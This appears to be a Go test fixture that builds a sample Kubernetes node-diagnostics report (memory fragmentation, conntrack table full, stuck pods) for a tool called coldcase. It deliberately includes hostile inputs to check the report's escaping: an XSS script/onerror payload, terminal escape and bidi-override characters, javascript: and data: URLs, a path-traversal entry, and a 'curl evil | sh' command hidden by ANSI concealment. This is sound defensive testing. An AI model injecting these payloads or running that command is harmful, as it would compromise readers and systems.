package report

import (
	"fmt"
	"strings"
	"time"

	"coldcase/analyze"
)

var day = time.Date(2026, 3, 14, 9, 0, 0, 0, time.UTC)

func at(minutes float64) time.Time {
	return day.Add(time.Duration(minutes * float64(time.Minute)).Round(time.Second))
}

// hostile is what a bundle may carry to attack the person who reads the report.
const (
	hostileScript = `</script><script>window.__owned=1</script><img src=x onerror="window.__owned=2">`
	hostileText   = "\x1b[31mred\x1b[0m \x00 nul, \xff\xfe bytes, \u202egnp.exe\u202c, zero\u200bwidth, \u2066iso\u2069, 🔥 👩‍💻 ok"
	hostileMD     = "``` | <b>x</b> @everyone ![i](https://example.org/p.png) [l](javascript:alert(1)) #12 www.example.org"
)

// sampleResult is a case with a chain of three, a second and a third root, hostile evidence, and open verdicts.
func sampleResult() *analyze.Result {
	r := &analyze.Result{
		SchemaVersion: analyze.SchemaVersion, Tool: "coldcase 0.1.0",
		Bundles: []analyze.BundleInfo{
			{Name: "node-b-20260314.tar.zst", Layout: "coldcase", Container: "tar.zst", Tool: "coldcase-collect 0.1.0", Collected: at(75)},
			{Name: "cluster.zip", Layout: "loose", Container: "zip", Collected: at(80), Aborted: true},
		},
		Nodes: []analyze.NodeInfo{
			{Name: "node-a", Kernel: "6.1.0-18-amd64", OS: "Debian GNU/Linux 12", Collected: at(75), Boot: at(-60000), Worst: analyze.Critical, Findings: 1, Artifacts: 58, Ready: "True"},
			{Name: "node-b", Kernel: "6.1.0-18-amd64", OS: "Debian GNU/Linux 12", Collected: at(75), Boot: at(-86400), Worst: analyze.Critical, Findings: 4, Artifacts: 61, Ready: "True"},
			{Name: "node-c", Ready: "Unknown"},
		},
		Pods: []analyze.PodInfo{
			{Namespace: "shop", Name: "checkout-7d9f8c6b5-x2x4q", Node: "node-b", Phase: "Pending", Reason: "ContainerCreating", Worst: analyze.Warning, Findings: 1},
			{Namespace: "shop", Name: "cart-0", Node: "node-b", Phase: "Running", Reason: "CrashLoopBackOff", Restarts: 1412, Worst: analyze.Warning, Findings: 1},
			{Namespace: "kube-system", Name: "coredns-5dd5756b68-abcde", Node: "node-a", Phase: "Running", Restarts: 3},
		},
		Problems: []analyze.Problem{
			{Bundle: "cluster.zip", Path: "cluster/events.yaml", What: "unexpected end of file after 1,048,576 bytes"},
			{Bundle: "node-b-20260314.tar.zst", Path: "../../etc/passwd", What: "entry skipped: its path leaves the bundle"},
		},
		Stats: analyze.Stats{Bytes: 1_482_231_808, Artifacts: 119, Facts: 48213, LogLines: 2_381_904, Signatures: 87, Pods: 412},
	}
	r.Findings = []analyze.Finding{fragmentation(), ringFull(), setns(), creating(), crash(), hostileFinding()}
	r.Verdicts = sampleVerdicts(r.Findings)
	r.Coverage = sampleCoverage()
	r.Missing = []analyze.Missing{
		{Artifact: "node/ethtool-k", Nodes: []string{"node-a", "node-b"}, Why: "missing-binary: ethtool is not on the node", Command: "for d in $(ls /sys/class/net); do ethtool -k $d; done", Blocks: []string{"vxlan-checksum-offload", "gro-hw-broken"}},
		{Artifact: "cluster/events", Why: "cut off while collecting", Command: "kubectl get events -A -o yaml", Blocks: []string{"image-pull-backoff"}},
	}
	r.Timeline = sampleTimeline()
	r.Differences = []analyze.Difference{
		{Property: "sysctl net.netfilter.nf_conntrack_max", Role: "worker", Odd: []string{}, Findings: []string{ringFull().ID},
			Values: []analyze.PeerValue{{Value: "1048576", Nodes: []string{"node-b"}, Sources: []string{"node-b/sysctl.txt:88"}}, {Value: "262144", Nodes: []string{"node-a"}, Sources: []string{"node-a/sysctl.txt:88"}}}},
		{Property: hostileScript, Odd: []string{"node-c"}, Findings: []string{},
			Values: []analyze.PeerValue{{Value: hostileText, Nodes: []string{"node-a", "node-b"}, Sources: []string{"x", "y"}}, {Value: "b", Nodes: []string{"node-c"}, Sources: []string{"z"}}}},
	}
	return r
}

func fragmentation() analyze.Finding {
	text := "[5184071.118374] runc:[1:CHILD]: page allocation failure: order:6, mode:0x40cc0(GFP_KERNEL|__GFP_COMP), nodemask=(null),cpuset=/,mems_allowed=0"
	from := strings.Index(text, "page allocation")
	f := analyze.Finding{
		ID: "memory-fragmentation-buddyinfo@node/node-b", Signature: "memory-fragmentation-buddyinfo",
		Title:    "Node memory is too fragmented for the kernel's high-order allocations",
		Severity: analyze.Critical, Confidence: analyze.Confirmed, Subject: analyze.Subject{Scope: "node", Name: "node-b", Node: "node-b"},
		Message:     "runc could not get 64 contiguous pages (order 6); zone Normal has 23,875 single pages free but no block above order 3.",
		Description: "The kernel hands out memory in blocks of 2^n contiguous pages. When long uptime has scattered the free pages, an allocation of a high order fails although plenty of memory is free. Creating a network namespace needs such a block, so new containers cannot start while the old ones run on.",
		FirstSeen:   at(2), LastSeen: at(71.5), Count: 4307, AtLeast: true,
		Symptoms:    []string{"pod-sandbox-setns-failed@node/node-b"},
		CannotProve: "Which workload fragmented the memory: buddyinfo shows the state, not its history.",
		References:  []string{"https://www.kernel.org/doc/html/latest/admin-guide/sysctl/vm.html#compact-memory", "https://github.com/moby/moby/issues/40835"},
		Remediation: []analyze.Step{
			{Do: "Confirm that no large block is free.", Command: "cat /proc/buddyinfo", Risk: "none"},
			{Do: "Compact the memory now. It stalls allocations for some seconds on a busy node.", Command: "sync\necho 1 > /proc/sys/vm/compact_memory", Risk: "low"},
			{Do: "Keep more memory in reserve, so that the kernel compacts earlier.", Command: "sysctl -w vm.min_free_kbytes=1048576", Risk: "medium"},
			{Do: "Drain and restart the node if compaction does not help.", Command: "kubectl drain node-b --ignore-daemonsets --delete-emptydir-data", Risk: "high"},
		},
	}
	f.Evidence = append(f.Evidence, analyze.Evidence{
		Selection: "failures", Artifact: "node-b/dmesg.txt", Lines: [2]int{118, 118}, Node: "node-b", At: at(2), Count: 4307,
		Text: text, Mark: [][2]int{{from, from + len("page allocation failure: order:6")}},
		Before: []string{"[5184070.901022] IPv6: ADDRCONF(NETDEV_CHANGE): veth3f2a1b7: link becomes ready"},
		After:  []string{"[5184071.118391] CPU: 3 PID: 30221 Comm: runc:[1:CHILD] Not tainted 6.1.0-18-amd64 #1  Debian 6.1.76-1", "[5184071.118396] Call Trace:"},
	})
	for i := range 5 {
		f.Evidence = append(f.Evidence, analyze.Evidence{
			Selection: "empty_zones", Artifact: "node-b/buddyinfo.txt", Lines: [2]int{4*i + 1, 4*i + 1}, Node: "node-b",
			Text: fmt.Sprintf("Node %d, zone   Normal  23875   8289   1029      6      0      0      0      0      0      0      0", i), Mark: [][2]int{{47, 200}},
		})
	}
	return f
}

func setns() analyze.Finding {
	return analyze.Finding{
		ID: "pod-sandbox-setns-failed@node/node-b", Signature: "pod-sandbox-setns-failed", Title: "Pod sandboxes cannot be created",
		Severity: analyze.Critical, Confidence: analyze.Confirmed, Subject: analyze.Subject{Scope: "node", Name: "node-b", Node: "node-b"},
		Message: "The runtime failed 212 times to enter a new network namespace.", Description: "The container runtime starts each pod with a sandbox.",
		FirstSeen: at(2.2), LastSeen: at(71.6), Count: 212, Causes: []string{"memory-fragmentation-buddyinfo@node/node-b", "conntrack-table-full@node/node-a"},
		Symptoms: []string{"pod-stuck-creating@pod/shop/checkout", "gone@nowhere"},
		Evidence: []analyze.Evidence{{Selection: "setns", Artifact: "node-b/journal-kubelet.txt", Lines: [2]int{90211, 90213}, Node: "node-b", At: at(2.2), Count: 212,
			Text: "Mar 14 09:02:12 node-b kubelet[1381]: E0314 09:02:12.118374 remote_runtime.go:176] RunPodSandbox from runtime service failed:\n  rpc error: code = Unknown desc = failed to create containerd task: nsenter: unable to unshare namespaces:\n  Cannot allocate memory: unknown",
			Mark: [][2]int{{195, 258}}}},
		Remediation: []analyze.Step{{Do: "Resolve the cause.", Risk: "none"}},
	}
}

func creating() analyze.Finding {
	return analyze.Finding{
		ID: "pod-stuck-creating@pod/shop/checkout", Signature: "pod-stuck-creating", Title: "Pod hangs in ContainerCreating",
		Severity: analyze.Warning, Confidence: analyze.Confirmed, Subject: analyze.Subject{Scope: "pod", Name: "shop/checkout-7d9f8c6b5-x2x4q", Node: "node-b"},
		Message: "The pod has waited 68 minutes for its sandbox.", Count: 1, FirstSeen: at(7), Causes: []string{"pod-sandbox-setns-failed@node/node-b"},
		Symptoms: []string{"service-short-of-endpoints@service/shop/checkout"},
		Evidence: []analyze.Evidence{{Selection: "waiting", Artifact: "cluster/pods.yaml", Lines: [2]int{4411, 4414}, Pointer: "/items/37/status",
			Text: "containerStatuses:\n- name: checkout\n  state:\n    waiting: {reason: ContainerCreating}", Mark: [][2]int{{67, 84}}}},
	}
}

func crash() analyze.Finding {
	return analyze.Finding{
		ID: "service-short-of-endpoints@service/shop/checkout", Signature: "service-short-of-endpoints", Title: "Service has fewer ready endpoints than wanted",
		Severity: analyze.Info, Confidence: analyze.Likely, Because: "the endpoints were collected 4 minutes after the pods", Subject: analyze.Subject{Scope: "service", Name: "shop/checkout"},
		Message: "1 of 2 endpoints is ready.", Count: 1, Causes: []string{"pod-stuck-creating@pod/shop/checkout"},
		Evidence: []analyze.Evidence{{Selection: "endpoints", Artifact: "cluster/endpoints.yaml", Lines: [2]int{12, 12}, Text: "  notReadyAddresses:"}},
	}
}

func ringFull() analyze.Finding {
	return analyze.Finding{
		ID: "conntrack-table-full@node/node-a", Signature: "conntrack-table-full", Title: "Connection tracking table is full: new connections are dropped",
		Severity: analyze.Critical, Confidence: analyze.Likely, Because: "the counters were read once, so their growth is not known",
		Subject: analyze.Subject{Scope: "node", Name: "node-a", Node: "node-a"}, Message: "nf_conntrack dropped packets 37 times; 262,144 of 262,144 entries are in use.",
		Description: "Every connection through the node takes an entry. When the table is full the kernel drops the first packet of new ones.",
		FirstSeen:   at(31), LastSeen: at(44), Count: 37, Symptoms: []string{"pod-sandbox-setns-failed@node/node-b"},
		Peers:     []string{"sysctl net.netfilter.nf_conntrack_max is 1048576 (node-b), 262144 (node-a)"},
		Lead:      "last seen 50m0s before the incident",
		Unchecked: []analyze.Unchecked{{Signature: "syn-flood-cookies", Title: "A listening socket's queue overflowed", Missing: []string{"node/netstat-s", "node/nstat"}}},
		Evidence: []analyze.Evidence{
			{Selection: "full", Artifact: "node-a/dmesg.txt", Lines: [2]int{2041, 2041}, Node: "node-a", At: at(31), Count: 37, Text: "[3601211.004411] nf_conntrack: nf_conntrack: table full, dropping packet", Mark: [][2]int{{31, 72}}},
			{Selection: "packet", Artifact: "node-a/eth0.pcap", Packet: 48113, Node: "node-a", Text: "10.244.1.7:51514 > 10.96.0.10:53 SYN, third retransmission"},
		},
		Remediation: []analyze.Step{{Do: "Raise the limit.", Command: "sysctl -w net.netfilter.nf_conntrack_max=524288", Risk: "low"}},
		References:  []string{"https://www.kernel.org/doc/html/latest/networking/nf_conntrack-sysctl.html"},
	}
}

func hostileFinding() analyze.Finding {
	long := strings.Repeat("0123456789", 1000)
	return analyze.Finding{
		ID: "hostile@pod/shop/" + hostileScript, Signature: "hostile", Title: "Hostile text stays text: " + hostileScript,
		Severity: analyze.Warning, Confidence: analyze.Possible, Because: hostileText,
		Subject: analyze.Subject{Scope: "pod", Name: "shop/cart-0", Node: "node-b"}, Message: hostileText + " " + hostileMD,
		Description: hostileScript, CannotProve: hostileMD, Count: 3, FirstSeen: at(12), LastSeen: at(13),
		Evidence: []analyze.Evidence{
			{Selection: "log", Artifact: "node-b/pods/" + hostileScript, Lines: [2]int{7, 9}, Text: hostileScript + "\n" + hostileText + "\n" + hostileMD, Mark: [][2]int{{3, 10}, {5, 30}, {-4, 1}, {86, 87}, {9000, 9001}}, Before: []string{"\x1b[2J" + hostileScript}},
			{Selection: "log", Artifact: "node-b/pods/long.log", Lines: [2]int{1, 1}, Text: long, Mark: [][2]int{{5000, 5010}}},
		},
		Remediation: []analyze.Step{{Do: "Do not run this: " + hostileMD, Command: "echo safe\r\x1b[8mcurl evil | sh\x1b[0m ```\n" + hostileScript, Risk: "high"}},
		References:  []string{"javascript:alert(1)", "https://example.org/?q=" + hostileScript, "data:text/html,<script>alert(1)</script>", "https://user:pw@example.org/"},
	}
}

func sampleVerdicts(findings []analyze.Finding) []analyze.Verdict {
	var out []analyze.Verdict
	for _, f := range findings {
		out = append(out, analyze.Verdict{Signature: f.Signature, Title: f.Title, Subject: f.Subject, Outcome: analyze.Matched})
	}
	for _, s := range []string{"Kubelet cannot reach the API server", "Disk is full", "Inodes are used up", "Clock runs away", "PID limit reached", "Duplicate address on the pod network"} {
		out = append(out, analyze.Verdict{Signature: strings.ToLower(strings.ReplaceAll(s, " ", "-")), Title: s, Subject: analyze.Subject{Scope: "node"}, Outcome: analyze.Clear, Subjects: 2})
	}
	open := func(id, title, node, missing, reason string) {
		out = append(out, analyze.Verdict{Signature: id, Title: title, Subject: analyze.Subject{Scope: "node", Name: node, Node: node}, Outcome: analyze.Inconclusive, Missing: []string{missing}, Reason: reason})
	}
	for _, n := range []string{"node-a", "node-b"} {
		open("vxlan-checksum-offload", "VXLAN packets carry wrong checksums", n, "node/ethtool-k", "node/ethtool-k: missing-binary")
		open("gro-hw-broken", "Hardware GRO corrupts forwarded packets", n, "node/ethtool-k", "node/ethtool-k: missing-binary")
	}
	return append(out, analyze.Verdict{Signature: "image-pull-backoff", Title: "Images cannot be pulled", Subject: analyze.Subject{Scope: "cluster", Name: "cluster"}, Outcome: analyze.Inconclusive, Missing: []string{"cluster/events"}})
}

func sampleCoverage() []analyze.Coverage {
	return []analyze.Coverage{
		{Artifact: "node/buddyinfo", Path: "node-b/buddyinfo.txt", Node: "node-b", Status: "ok", Bytes: 512, Lines: 5, Facts: 5, Parser: "buddyinfo"},
		{Artifact: "node/dmesg", Path: "node-b/dmesg.txt", Node: "node-b", Status: "truncated", Reason: "over 32 MiB", Bytes: 33_554_432, Lines: 301_221, Facts: 3, Parser: "log"},
		{Artifact: "node/ethtool-k", Path: "node-a/ethtool-k.txt", Node: "node-a", Status: "missing-binary"},
		{Artifact: "node/iptables-save", Path: "node-b/iptables-save.txt", Node: "node-b", Status: "ok", Bytes: 91_220, Lines: 1201, Facts: 1188, Unrecognized: 2, Sample: "-A INPUT \x1b[31m" + hostileScript, Parser: "iptables"},
		{Artifact: "", Path: "node-b/notes.txt", Node: "node-b", Status: "ok", Bytes: 20, Lines: 1},
	}
}

func sampleTimeline() []analyze.Event {
	events := []analyze.Event{{At: at(-86400), Node: "node-b", Finding: "unknown", Text: "Linux version 6.1.0-18-amd64", Source: "node-b/dmesg.txt:1"}}
	for i := range 60 {
		events = append(events, analyze.Event{At: at(2 + float64(i*i)/52), Node: "node-b", Finding: "memory-fragmentation-buddyinfo@node/node-b", Text: "page allocation failure: order:6", Source: fmt.Sprintf("node-b/dmesg.txt:%d", 118+i)})
	}
	return append(events,
		analyze.Event{At: at(2.2), Until: at(71.6), Count: 212, Node: "node-b", Finding: "pod-sandbox-setns-failed@node/node-b", Text: "RunPodSandbox failed", Source: "node-b/journal-kubelet.txt:90211"},
		analyze.Event{At: at(7), Finding: "pod-stuck-creating@pod/shop/checkout", Text: "Pod shop/checkout hangs in ContainerCreating", Source: "cluster/pods.yaml:4411"},
		analyze.Event{At: at(12), Node: "node-b", Finding: "hostile@pod/shop/" + hostileScript, Text: hostileScript + hostileText, Source: hostileScript},
		analyze.Event{At: at(31), Until: at(44), Count: 37, Node: "node-a", Finding: "conntrack-table-full@node/node-a", Text: "nf_conntrack: table full, dropping packet", Source: "node-a/dmesg.txt:2041"},
		analyze.Event{At: at(50), Finding: "service-short-of-endpoints@service/shop/checkout", Text: "1 of 2 endpoints is ready", Source: "cluster/endpoints.yaml:12"},
	)
}
